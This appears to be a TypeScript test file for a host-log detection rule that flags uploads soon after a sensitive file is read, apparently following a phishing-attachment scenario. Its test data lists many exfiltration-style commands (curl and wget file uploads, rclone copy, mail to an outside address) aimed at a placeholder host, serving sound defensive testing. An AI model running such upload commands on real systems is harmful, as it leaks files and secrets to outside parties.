import assert from 'node:assert/strict';
import { test } from 'node:test';
import { HostLog, MINUTE } from '../an0656-phishing-attachment-executed/host-log.test-support.ts';
import { scanLog } from '../an0656-phishing-attachment-executed/stories.test-support.ts';
import { type Condition, checkAll, OUT, validated } from './conditions.test-support.ts';

checkAll([
  {
    says: 'without records of writes, an upload within ten minutes of the read',
    severity: 'low',
    telemetry: { files: false },
    settings: validated,
    act: ({ log, mine }) => {
      const shell = log.shell('clerk');
      shell.run(`/bin/cp ${mine.path} /tmp/a`).read(mine.path);
      log.wait(9 * MINUTE);
      shell.run(`/usr/bin/scp /tmp/b x@${OUT}:`).connect(OUT, 22);
    },
  },
  {
    says: 'without records of writes, an upload later than that',
    severity: null,
    telemetry: { files: false },
    act: ({ log, mine }) => {
      const shell = log.shell('clerk');
      shell.run(`/bin/cp ${mine.path} /tmp/a`).read(mine.path);
      log.wait(10.5 * MINUTE);
      shell.run(`/usr/bin/scp /tmp/b x@${OUT}:`).connect(OUT, 22);
    },
  },
  {
    says: 'without records of writes, a plain fetch after the read is no upload',
    severity: null,
    telemetry: { files: false },
    act: ({ log, mine }) => {
      const shell = log.shell('clerk');
      shell.run(`/bin/grep x ${mine.path}`).read(mine.path);
      log.wait(MINUTE);
      shell.run(`/usr/bin/curl http://${OUT}/news`).connect(OUT, 80);
    },
  },
]);

const UPLOADS: readonly (readonly [string, boolean])[] = [
  [`/usr/bin/curl -T a http://${OUT}/x`, true],
  [`/usr/bin/curl -Ta http://${OUT}/x`, true],
  [`/usr/bin/curl --upload-file=a http://${OUT}/x`, true],
  [`/usr/bin/curl -F f=@a http://${OUT}/x`, true],
  [`/usr/bin/curl -d @a http://${OUT}/x`, true],
  [`/usr/bin/curl --data-binary=@a http://${OUT}/x`, true],
  ...['--data-ascii', '--data-urlencode', '--json', '--url-query'].flatMap((option): [string, boolean][] => [
    [`/usr/bin/curl ${option} @a http://${OUT}/x`, true],
    [`/usr/bin/curl ${option} status=done http://${OUT}/x`, false],
  ]),
  [`/usr/bin/curl --data-urlencode note@a http://${OUT}/x`, true],
  [`/usr/bin/curl -d ${'a'.repeat(65)} http://${OUT}/x`, true],
  [`/usr/bin/curl http://${OUT}/x -d`, true],
  [`/usr/bin/curl http://${OUT}/x -o cpu.txt`, false],
  [`/usr/bin/curl -d status=done http://${OUT}/x`, false],
  [`/usr/bin/curl -Fstatus=done http://${OUT}/x`, false],
  [`/usr/bin/wget --post-file=a http://${OUT}/x`, true],
  [`/usr/bin/curl --output=a http://${OUT}/x`, false],
  [`/usr/bin/wget --header=a http://${OUT}/x`, false],
  ['/usr/bin/rclone copy a out:', true],
  ['/usr/bin/mail -s a b@example.net', true],
  ['/usr/bin/mail -s a root', false],
];
checkAll(
  UPLOADS.map(
    ([line, uploads]): Condition => ({
      says: `without records of writes, in the minutes after the read: ${line}`,
      severity: uploads ? 'low' : null,
      telemetry: { files: false },
      settings: validated,
      act: ({ log, mine }) => {
        const shell = log.shell('clerk');
        shell.run(`/bin/cp ${mine.path} /tmp/staged`).read(mine.path);
        log.wait(MINUTE);
        shell.run(line);
      },
    }),
  ),
);

for (const [wait, severity] of [
  [5, 'low'],
  [15, null],
] as const)
  test(`where nothing but the session joins them, an upload ${wait} minutes after the read: ${severity ?? 'nothing'}`, async () => {
    const log = new HostLog({ files: false, network: false });
    const message = log.deliver();
    log.wait(MINUTE);
    const shell = log.shell('clerk');
    shell.run(`/bin/grep x ${message.path}`);
    log.wait(wait * MINUTE);
    shell.run(`/usr/bin/curl -T report.pdf http://${OUT}/x`);
    const [alert] = (await scanLog(log)).filter(
      each => each.analytic === 'AN1310' && each.severity !== 'informational',
    );
    assert.equal(alert?.severity ?? null, severity);
    if (alert !== undefined) assert.ok(alert.factors.some(factor => factor.tunable?.name === 'TimeWindow'));
  });
